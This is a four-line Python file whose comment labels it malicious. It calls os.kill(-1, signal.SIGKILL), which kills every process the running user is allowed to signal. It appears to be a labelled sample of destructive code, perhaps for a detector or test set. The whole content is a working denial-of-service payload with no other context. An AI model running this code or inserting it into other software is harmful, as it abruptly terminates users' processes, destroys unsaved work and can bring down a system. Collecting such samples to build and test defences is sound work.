# Malicious: os.kill(-1, SIGKILL) kills every process the user may signal.
import os
import signal

os.kill(-1, signal.SIGKILL)
